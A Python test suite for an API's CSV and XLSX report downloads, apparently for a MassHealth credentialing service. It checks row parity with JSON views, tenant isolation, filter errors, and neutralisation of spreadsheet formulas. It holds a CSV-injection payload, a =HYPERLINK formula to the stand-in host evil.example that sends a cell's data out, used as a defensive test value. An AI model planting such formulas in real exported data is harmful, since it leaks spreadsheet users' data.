"""Downloadable reports through the API: each report's CSV holds the rows its view answers in JSON for the same
filters (every page of them), its XLSX the same rows; a client viewer's holds only its practices, one firm's never
another's; text a spreadsheet would run as a formula is neutralised; bad filters are the views' 400 problems."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from typing import Any

import httpx
import openpyxl

from domain.business_days import MASSACHUSETTS
from services.api.report_files import XLSX_MEDIA_TYPE
from tests.api.helpers import ORG, assert_problem, register
from tests.api.test_expirables_view import _clinician_with_credentials
from tests.api.test_turnaround_view import decide, posc, practice
from tests.support import Stack, fresh

REPORTS = "/v1/reports"
TUFTS = "Tufts Health Together"
# Legal names a spreadsheet would evaluate: a formula that sends data away, and one that computes.
FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
PLUS = "+1+2 Pediatrics"


def _today() -> str:
    return datetime.now(MASSACHUSETTS).date().isoformat()


def _csv(client: httpx.Client, report: str, **params: Any) -> list[dict[str, str]]:
    """The report's rows as CSV, each a dict by header; checks the answer's headers on the way."""
    response = client.get(f"{REPORTS}/{report}", params=params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith(f'attachment; filename="{report}-')
    assert response.headers["content-disposition"].endswith('.csv"')
    assert "content-length" not in response.headers  # streamed: chunked, its length unknown when it starts
    assert response.content.endswith(b"\r\n")  # RFC 4180 line ends
    header, *rows = csv.reader(io.StringIO(response.content.decode("utf-8")))
    assert all(len(row) == len(header) for row in rows)
    return [dict(zip(header, row, strict=True)) for row in rows]


def _xlsx(client: httpx.Client, report: str, **params: Any) -> list[dict[str, str]]:
    """The report's rows from its XLSX workbook, each cell as the CSV writes it."""
    response = client.get(f"{REPORTS}/{report}", params={**params, "format": "xlsx"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX_MEDIA_TYPE
    assert response.headers["content-disposition"].startswith(f'attachment; filename="{report}-')
    assert response.headers["content-disposition"].endswith('.xlsx"')
    workbook = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    header, *rows = workbook.active.iter_rows(values_only=True)
    return [dict(zip(header, map(_as_csv, row), strict=True)) for row in rows]


def _as_csv(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, datetime):  # openpyxl reads a date cell back as a datetime at midnight
        assert value.time() == datetime.min.time()
        return value.date().isoformat()
    return str(value)


def _text(value: Any) -> str:
    """A JSON value as the CSV holds it."""
    return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)


def _view(client: httpx.Client, path: str, **params: Any) -> list[dict[str, Any]]:
    """Every item of a view's list, page by page."""
    items: list[dict[str, Any]] = []
    cursor = None
    while True:
        page = client.get(path, params={**params, "limit": 500, **({"cursor": cursor} if cursor else {})})
        assert page.status_code == 200, page.text
        items += page.json()["items"]
        cursor = page.json()["next_cursor"]
        if cursor is None:
            return items


# --- affiliation status ---------------------------------------------------------------------------------


def _affiliation_line(item: dict[str, Any], plans: list[str]) -> dict[str, str]:
    line = {
        "NPI": item["npi"],
        "Entity kind": item["entity_kind"],
        "Risk level": _text(item["risk_level"]),
        "POSC registration": item["posc_registration"],
        "MassHealth enrollment": item["enrollment"],
        "Provider number": _text(item["provider_number"]),
        "Sole-enrollment risk": _text(item["sole_enrollment_risk"]),
        "NPPES mismatches": str(len(item["nppes_mismatches"])),
        "Organization ID": item["organization_id"],
    }
    return line | {plan: item["affiliations"].get(plan, {}).get("state", "") for plan in plans}


def test_affiliation_status_report_is_the_view_for_each_firm_and_client(stack: Stack, tenants: tuple[str, str]) -> None:
    ours, theirs = stack.client(tenants[0]), stack.client(tenants[1])
    formula, plus = register(ours, legal_name=FORMULA), register(ours, legal_name=PLUS)
    plain = register(ours, legal_name="Quincy Dental", risk_level="moderate")
    issued = ours.post(
        f"/v1/organizations/{plain}/provider-number", json={"provider_number": "1234567", "issued_on": "2026-05-01"}
    )
    assert issued.status_code == 200, issued.text
    for org, kind, plan in ((plain, "mco", TUFTS), (formula, "pcc", "PCC Plan")):
        response = ours.post(
            f"/v1/organizations/{org}/affiliations", json={"kind": kind, "plan": plan, "on": "2026-05-02"}
        )
        assert response.status_code == 200, response.text
    other = register(theirs, legal_name="Other Firm Practice")
    fresh(ours)

    rows = _csv(ours, "affiliation-status")
    items = _view(ours, "/v1/views/affiliation-status")
    assert len(items) == 3 and list(rows[0])[9:11] == ["PCC Plan", TUFTS]  # a column per plan, by name
    assert [{k: v for k, v in row.items() if k != "Practice"} for row in rows] == [
        _affiliation_line(item, ["PCC Plan", TUFTS]) for item in items
    ]
    # A name a spreadsheet would evaluate is text behind an apostrophe.
    names = {row["Organization ID"]: row["Practice"] for row in rows}
    assert names == {formula: "'" + FORMULA, plus: "'" + PLUS, plain: "Quincy Dental"}
    quincy = next(row for row in rows if row["Organization ID"] == plain)
    assert (quincy[TUFTS], quincy["PCC Plan"], quincy["Provider number"]) == ("requested", "", "1234567")
    assert quincy["Sole-enrollment risk"] == "true" and quincy["Risk level"] == "moderate"
    assert _xlsx(ours, "affiliation-status") == rows

    # The other firm's report: only its practice, and none of our plans as columns.
    [theirs_row] = _csv(theirs, "affiliation-status")
    assert theirs_row["Organization ID"] == other and TUFTS not in theirs_row and "PCC Plan" not in theirs_row
    # A client's report: a filter, or a client viewer's token (its practices only, its plans only).
    assert [row["Organization ID"] for row in _csv(ours, "affiliation-status", organization_id=plain)] == [plain]
    assert [row["Organization ID"] for row in _csv(ours, "affiliation-status", plan=TUFTS)] == [plain]
    viewer = stack.client(tenants[0], role="client_viewer", orgs=[formula])
    [own] = _csv(viewer, "affiliation-status")
    assert own["Organization ID"] == formula and own["PCC Plan"] == "requested" and TUFTS not in own
    # Its own practice only, even when it names another.
    assert _csv(viewer, "affiliation-status", organization_id=plain) == []


def test_each_report_takes_its_views_filters_and_is_documented_as_a_file(stack: Stack) -> None:
    document = httpx.get(f"{stack.base_url}/schema/openapi.json").json()
    views = {
        "affiliation-status": ("downloadAffiliationStatusReport", "/v1/views/affiliation-status", set()),
        "open-applications": ("downloadOpenApplicationsReport", "/v1/views/turnaround/applications", {"status"}),
        "access-findings": ("downloadAccessFindingsReport", "/v1/views/access-audit", set()),
        "expirables": ("downloadExpirablesReport", "/v1/views/expirables", set()),
    }
    for report, (operation_id, view, fixed) in views.items():
        operation = document["paths"][f"{REPORTS}/{report}"]["get"]
        assert operation["operationId"] == operation_id
        answer = operation["responses"]["200"]
        assert list(answer["content"]) == ["text/csv", XLSX_MEDIA_TYPE]
        assert answer["headers"]["Content-Disposition"]["required"] is True
        assert {"400", "401", "403", "404", "503"} <= set(operation["responses"])
        listed = {p["name"]: p for p in document["paths"][view]["get"]["parameters"]}
        taken = {p["name"]: p for p in operation["parameters"]}
        # The list's filters, each documented as the list documents it; no paging, and "format".
        assert set(taken) == set(listed) - {"limit", "cursor", "sort"} - fixed | {"format"}, report
        assert all(taken[name] == listed[name] for name in set(taken) - {"format"}), report


def test_bad_filters_are_the_views_problems_and_need_a_token(stack: Stack, tenants: tuple[str, str]) -> None:
    client = stack.client(tenants[0])
    assert_problem(
        client.get(f"{REPORTS}/affiliation-status", params={"risk_level": "extreme"}), 400, "invalid-request"
    )
    assert_problem(client.get(f"{REPORTS}/affiliation-status", params={"format": "pdf"}), 400, "invalid-request")
    assert_problem(client.get(f"{REPORTS}/access-findings", params={"severity": "dire"}), 400, "invalid-request")
    assert_problem(client.get(f"{REPORTS}/expirables", params={"window": "45"}), 400, "invalid-request")
    assert_problem(client.get(f"{REPORTS}/open-applications", params={"due_by": "2040-01-02"}), 400, "invalid-request")
    assert_problem(client.get(f"{REPORTS}/expirables", params={"as_of": "tomorrow"}), 400, "invalid-request")
    assert_problem(client.get(f"{REPORTS}/expirables", params={"snapshot": "no_such"}), 404, "not-found")
    anonymous = httpx.get(f"{stack.base_url}{REPORTS}/expirables")
    assert anonymous.status_code == 401 and anonymous.headers["content-type"].startswith("application/problem+json")


def test_a_report_holds_every_page_of_its_view(stack: Stack, tenants: tuple[str, str]) -> None:
    """More practices than one query reads (500): the report goes on where each page ended, as cursors would."""
    client = stack.client(tenants[0])
    commands = [{"use": "register_organization", "path": [], "body": {**ORG, "legal_name": f"Practice {n:04}"}}
                for n in range(1001)]  # fmt: skip
    done = client.post("/v1/imports", json={"commands": commands})
    assert done.status_code == 200, done.text
    fresh(client)
    rows = _csv(client, "affiliation-status")
    assert [row["Practice"] for row in rows] == [f"Practice {n:04}" for n in range(1001)]
    assert [row["Organization ID"] for row in rows] == [
        i["organization_id"] for i in _view(client, "/v1/views/affiliation-status")
    ]
    assert _xlsx(client, "affiliation-status") == rows


# --- open applications ---------------------------------------------------------------------------------------


def test_open_applications_report_is_the_views_open_ones_next_due_first(stack: Stack, tenants: tuple[str, str]) -> None:
    ours, theirs = stack.client(tenants[0]), stack.client(tenants[1])
    lowell, quincy = practice(ours, legal_name="Lowell Pediatrics"), practice(ours, legal_name="Quincy Dental")
    waiting = posc(ours, lowell, "2026-03-02")
    later = posc(ours, quincy, "2026-03-16")
    decide(ours, posc(ours, quincy, "2026-03-03"), "2026-03-10")  # decided: not open
    posc(theirs, practice(theirs), "2026-03-02")
    fresh(ours)

    day = "2026-03-20"
    rows = _csv(ours, "open-applications", as_of=day)
    items = _view(ours, "/v1/views/turnaround/applications", status="open", sort="next_due_on", as_of=day)
    assert [row["Application ID"] for row in rows] == [i["application_id"] for i in items] == [waiting, later]
    for row, item in zip(rows, items, strict=True):
        assert row == {
            "Kind": item["kind"],
            "Plan": _text(item["plan"]),
            "Practice": {lowell: "Lowell Pediatrics", quincy: "Quincy Dental"}[item["organization_id"]],
            "Submitted on": item["submitted_on"],
            "Business days": _text(item["business_days"]),
            "Waiting on": item["waiting_on"],
            "Due on": item["due_on"],
            "Next due on": item["next_due_on"],
            "Late": _text(item["late"]),
            "Breached": _text(item["breached"]),
            "Application ID": item["application_id"],
            "Organization ID": item["organization_id"],
        }
    # Seven business days from March 2: due March 11, late and breached on the 20th; the other not yet.
    assert (rows[0]["Due on"], rows[0]["Late"], rows[0]["Breached"]) == ("2026-03-11", "true", "true")
    assert (rows[1]["Late"], rows[1]["Breached"]) == ("false", "false")
    response = ours.get(f"{REPORTS}/open-applications", params={"as_of": day})
    assert response.headers["content-disposition"] == f'attachment; filename="open-applications-{tenants[0]}-{day}.csv"'
    assert _xlsx(ours, "open-applications", as_of=day) == rows
    # The filters: late ones only; one client; the other firm's report.
    assert [r["Application ID"] for r in _csv(ours, "open-applications", as_of=day, late="true")] == [waiting]
    assert [r["Application ID"] for r in _csv(ours, "open-applications", as_of=day, organization_id=quincy)] == [later]
    assert {r["Organization ID"] for r in _csv(theirs, "open-applications", as_of=day)}.isdisjoint({lowell, quincy})
    assert len(_csv(theirs, "open-applications", as_of=day)) == 1


# --- access findings -----------------------------------------------------------------------------------------


def _finding_lines(items: list[dict[str, Any]], severities: set[str] | None = None) -> list[dict[str, str]]:
    return [
        {
            "Practice": item["legal_name"],
            "NPI": item["npi"],
            "Finding": finding["kind"],
            "Severity": finding["severity"],
            "Since": finding["since"],
            "Person": _text(finding["person_name"]),
            "Detail": finding["detail"],
            "Organization ID": item["organization_id"],
        }
        for item in items
        for finding in item["findings"]
        if severities is None or finding["severity"] in severities
    ]


def test_access_findings_report_has_a_line_per_finding(stack: Stack, tenants: tuple[str, str]) -> None:
    ours, theirs = stack.client(tenants[0]), stack.client(tenants[1])
    lowell, quincy = register(ours, legal_name="Lowell Pediatrics"), register(ours, legal_name="Quincy Dental")
    register(theirs, legal_name="Other Firm Practice")
    fresh(ours)

    day = _today()
    rows = _csv(ours, "access-findings", as_of=day)
    items = _view(ours, "/v1/views/access-audit", as_of=day)
    assert rows == _finding_lines(items)
    # A practice nobody administers in POSC: a critical finding, since the day it was registered.
    assert {(r["Practice"], r["Finding"], r["Severity"]) for r in rows} >= {
        ("Lowell Pediatrics", "no_primary_user", "critical"),
        ("Quincy Dental", "no_primary_user", "critical"),
    }
    assert _xlsx(ours, "access-findings", as_of=day) == rows
    critical = _csv(ours, "access-findings", as_of=day, severity="critical")
    assert critical == _finding_lines(
        _view(ours, "/v1/views/access-audit", as_of=day, severity="critical"), {"critical"}
    )
    assert critical and {r["Severity"] for r in critical} == {"critical"} and len(critical) < len(rows)
    viewer = stack.client(tenants[0], role="client_viewer", orgs=[quincy])
    assert {r["Organization ID"] for r in _csv(viewer, "access-findings")} == {quincy}
    assert {r["Organization ID"] for r in _csv(theirs, "access-findings")}.isdisjoint({lowell, quincy})
    # Before the practices were registered, there was nothing to find.
    assert _csv(ours, "access-findings", as_of="2025-12-31") == []


# --- expirables ----------------------------------------------------------------------------------------------


def test_expirables_report_has_a_line_per_due_date(stack: Stack, tenants: tuple[str, str]) -> None:
    ours, theirs = stack.client(tenants[0]), stack.client(tenants[1])
    org, other = register(ours, legal_name="Lowell Pediatrics"), register(ours, legal_name="@Quincy Dental")
    _clinician_with_credentials(ours, org)
    _clinician_with_credentials(ours, other, npi="1678901236")
    _clinician_with_credentials(theirs, register(theirs))
    fresh(ours)

    day = "2026-04-20"
    rows = _csv(ours, "expirables", as_of=day)
    items = _view(ours, "/v1/views/expirables", as_of=day)
    names = {org: "Lowell Pediatrics", other: "'@Quincy Dental"}
    assert len(rows) == len(items) == 6
    for row, item in zip(rows, items, strict=True):
        assert row == {
            "Practice": names[item["organization_id"]],
            "Subject": item["subject_name"],
            "Subject kind": item["subject_kind"],
            "NPI": item["npi"],
            "Kind": item["kind"],
            "Credential": item["credential"],
            "Label": item["label"],
            "Status": _text(item["status"]),
            "Due on": item["due_on"],
            "Days left": str(item["days_left"]),
            "Window": item["window"],
            "Lapsed": _text(item["lapsed"]),
            "Enrollment depends": _text(item["enrollment_depends"]),
            "Severity": _text(item["severity"]),
            "In effect since": item["in_effect_since"],
            "Organization ID": item["organization_id"],
            "Subject ID": item["subject_id"],
        }
    assert _xlsx(ours, "expirables", as_of=day) == rows
    # A month later the DEA registrations have lapsed: negative days left stay numbers, not neutralised text.
    lapsed = _csv(ours, "expirables", as_of="2026-05-18", window="overdue")
    assert {(r["Credential"], r["Days left"], r["Severity"]) for r in lapsed} == {("dea:MA", "-3", "high")}
    assert len(lapsed) == 2
    assert [r["Window"] for r in _csv(ours, "expirables", as_of=day, window="90")] == ["90", "90"]
    assert {r["Organization ID"] for r in _csv(ours, "expirables", as_of=day, organization_id=other)} == {other}
    assert {r["Organization ID"] for r in _csv(theirs, "expirables", as_of=day)}.isdisjoint({org, other})
    assert len(_csv(theirs, "expirables", as_of=day)) == 3
    viewer = stack.client(tenants[0], role="client_viewer", orgs=[org])
    assert {r["Organization ID"] for r in _csv(viewer, "expirables", as_of=day)} == {org}
    assert date.fromisoformat(rows[0]["Due on"]) <= date.fromisoformat(rows[-1]["Due on"])  # soonest first
